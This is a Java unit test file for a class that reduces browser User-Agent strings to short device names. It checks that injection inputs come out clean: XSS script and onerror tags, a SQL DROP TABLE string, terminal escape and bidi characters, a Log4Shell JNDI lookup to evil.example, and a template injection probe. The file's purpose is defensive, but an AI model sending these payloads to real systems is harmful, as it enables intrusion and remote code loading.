package dev.saoma.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import dev.saoma.servlet.internal.http.DeviceName;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DeviceNameTest {
    private static final Site SITE = new Site();

    @AfterAll
    static void close() {
        SITE.close();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 | Chrome, Windows",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0 | Edge, Windows",
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/18.1 Safari/605.1.15 | Safari, Mac",
                "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0 | Firefox, Linux",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 MicroMessenger/8.0.54 NetType/WIFI | WeChat, iPhone",
                "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/130.0 Mobile Safari/537.36 MicroMessenger/8.0.54 | WeChat, Android",
                "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/130.0 Mobile Safari/537.36 wxwork/4.1 MicroMessenger/7.0.1 | WeCom, Android",
                "Mozilla/5.0 (Phone; OpenHarmony 5.0) AppleWebKit/537.36 Chrome/114.0 Safari/537.36 ArkWeb/4.1 | Chrome, HarmonyOS",
                "Mozilla/5.0 (iPad; CPU OS 17_0 like Mac OS X) CriOS/120.0 Mobile/15E148 Safari/604.1 | Chrome, iPad",
                "curl/8.5.0 | curl",
                "Something else on Windows | Windows",
                "nonsense | ''"
            })
    void saysItInAFewWords(String userAgent, String device) {
        assertThat(DeviceName.named(userAgent)).isEqualTo(device);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script> Chrome Windows",
                "Chrome'; DROP TABLE session; -- Windows",
                "Chrome \u001b[31m Windows \u202e",
                "Chrome Windows ${jndi:ldap://evil.example/x} {{7*7}} %00%0d%0a"
            })
    void repeatsNothingThatWasSent(String userAgent) {
        assertThat(DeviceName.named(userAgent)).isEqualTo("Chrome, Windows");
    }

    @Test
    void readsNoMoreThanItNeeds() {
        assertThat(DeviceName.named("x".repeat(512) + "Chrome Windows")).isEmpty();
        assertThat(DeviceName.named("Chrome".repeat(100_000) + "Windows")).isEqualTo("Chrome");
    }

    @Test
    void isInertOnItsWayThroughASession() {
        Browser browser = SITE.browser();
        String code = browser.finish("MyWeChatLogin", browser.state("MyWeChatLogin", "login"), "hostile-1")
                .text("loginCode");
        String hostile = "User-Agent: Firefox <img src=x onerror=alert(1)> Linux 你好 ' \" \\ \t ";

        assertThat(browser.post("/api/session", "{\"loginCode\":\"" + code + "\"}", hostile, "User-Agent: Chrome")
                        .status())
                .isEqualTo(201);
        assertThat(browser.get("/api/sessions").json().get(0).path("device").asString())
                .isEqualTo("Firefox, Linux");
    }
}
